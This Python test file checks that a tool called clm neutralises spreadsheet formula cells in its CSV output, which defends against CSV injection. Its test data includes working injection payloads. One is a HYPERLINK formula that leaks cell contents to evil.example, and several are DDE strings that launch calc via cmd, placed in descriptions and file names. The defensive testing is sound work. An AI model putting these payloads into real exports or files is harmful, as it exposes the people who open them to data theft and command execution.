"""Finding 9 (issue 17): every CSV clm writes neutralises cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
import json

import pytest

from clm import csvfile

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_cell_is_neutralised(cell):
    assert csvfile.neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-120.00", "+5", "0.5", "-1e3", "Acme Corp", "", "a=b", "2026-01-01"])
def test_numbers_and_text_stay_as_they_are(cell):
    assert csvfile.neutralise(cell) == cell


def test_non_text_cells_are_untouched():
    assert csvfile.neutralise(None) is None and csvfile.neutralise(-3) == -3


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _dangerous(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(csvfile.FORMULA_START) and not csvfile._NUMBER.fullmatch(c)]


def test_billing_cli_csv_neutralises_descriptions(runner, tmp_path):
    from clm.cli import main
    from tests.downstream.examples import saas_doc

    doc = saas_doc()
    doc["lines"][0]["description"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    terms = tmp_path / "terms.json"
    terms.write_text(json.dumps(doc))
    result = runner.invoke(main, ["billing", str(terms), "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = _cells(result.output)
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and not _dangerous(cells)


def test_import_report_neutralises_file_names(runner, tmp_path, monkeypatch):
    from clm.cli import main

    monkeypatch.chdir(tmp_path)
    (tmp_path / "=cmd|' calc'!A1.txt").write_text("An agreement.\nBetween two parties.\n")
    (tmp_path / "-2+3.docx").write_bytes(b"not a docx")
    report = tmp_path / "report.csv"
    result = runner.invoke(main, ["import", "--report", str(report), "--", "=cmd|' calc'!A1.txt", "-2+3.docx"])
    assert report.exists(), result.output
    rows = list(csv.DictReader(report.open(encoding="utf-8")))
    assert [r["path"] for r in rows] == ["'=cmd|' calc'!A1.txt", "'-2+3.docx"]
    assert not _dangerous([cell for r in rows for cell in r.values()])
